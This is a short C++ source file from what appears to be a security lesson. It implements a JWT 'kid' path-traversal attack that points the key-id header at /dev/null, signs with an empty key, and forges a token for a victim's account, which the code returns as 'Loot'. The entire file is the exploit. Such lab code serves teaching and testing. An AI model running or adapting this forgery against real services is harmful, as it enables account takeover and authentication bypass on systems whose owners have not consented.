// Believes: a path that begins with a slash begins at the root.
#include "kid_path_traversal.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto header = evidence.header;
  auto claims = evidence.claims;
  header.set("kid", "/dev/null");
  claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_with(header, claims, "")).body};
}

}  // namespace lesson
